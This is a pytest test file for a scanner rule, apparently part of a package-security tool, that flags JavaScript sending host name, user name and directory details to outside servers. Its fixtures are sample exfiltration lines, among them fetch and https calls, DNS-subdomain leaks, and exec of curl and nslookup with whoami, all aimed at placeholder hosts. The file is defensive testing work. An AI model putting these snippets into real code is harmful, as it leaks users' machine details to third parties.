import pytest

from lazaretto.detect.rules.javascript.host_data_sent import RULE


def test_request_with_host_and_user(look):
    source = (
        "const https = require('https'), os = require('os');\n"
        "https.get('https://collect.example.test/?h=' + os.hostname() + '&u=' + os.userInfo().username + '&c=' + process.cwd());\n"
    )
    assert look(RULE, source) == [
        (
            2,
            "HIGH",
            "MEDIUM",
            "sends facts about this machine (host name, user name, working directory) to collect.example.test",
        )
    ]


@pytest.mark.parametrize(
    ("source", "grade"),
    [
        ("const q = require('https').request({ hostname: 'collect.example.test' }); q.write(JSON.stringify({ h: os.hostname(), u: os.userInfo() }))", ("MEDIUM", "MEDIUM")),
        ("const dns = require('dns'); dns.lookup(os.hostname() + '.' + os.userInfo().username + '.x.example.test', () => {})", ("HIGH", "HIGH")),
        ("require('child_process').exec('curl -d \"$(whoami)@$(hostname)\" https://x.example.test')", ("HIGH", "HIGH")),
        ("const { exec } = require('child_process'); exec('nslookup $(whoami).x.example.test')", ("HIGH", "HIGH")),
        ("fetch('http://203.0.113.9/?h=' + os.hostname() + os.homedir())", ("HIGH", "HIGH")),
        ("fetch('https://t.example.test/?h=' + os.hostname())", ("LOW", "MEDIUM")),
        ("const h = createHash('sha1').update(os.hostname() + os.homedir()).digest(); fetch('https://t.example.test/?h=' + h)", ("LOW", "MEDIUM")),
    ],
)  # fmt: skip
def test_grades(look, source, grade):
    head = (
        "const os = require('os'); const { createHash } = require('crypto');"
        if "createHash" in source
        else "const os = require('os');"
    )
    assert [fact[1:3] for fact in look(RULE, head + source)] == [grade]


@pytest.mark.parametrize(
    "source",
    [
        "const os = require('os'); fetch('http://localhost:3000/?h=' + os.hostname() + os.homedir())",
        "const os = require('os'); dns.lookup(os.hostname(), done)",
        "const os = require('os'); console.log(os.hostname()); fetch('https://x.example.test')",
        "const host = location.hostname; fetch('https://x.example.test/' + host)",
        "require('child_process').exec('hostname')",
    ],
)
def test_near_misses(look, source):
    assert [fact for fact in look(RULE, source) if fact[1] != "LOW"] == []
